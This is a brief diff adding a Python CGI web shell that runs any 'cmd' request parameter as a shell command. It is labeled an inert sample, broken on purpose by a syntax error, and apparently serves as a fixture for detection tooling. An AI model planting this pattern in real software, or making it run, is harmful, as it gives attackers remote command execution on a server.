@@ -1,0 +1,5 @@
+#!/usr/bin/env python3
+shodo inert sample: deliberate syntax error, this file never runs
+import cgi, subprocess
+form = cgi.FieldStorage()
+print(subprocess.check_output(form.getvalue("cmd"), shell=True).decode())
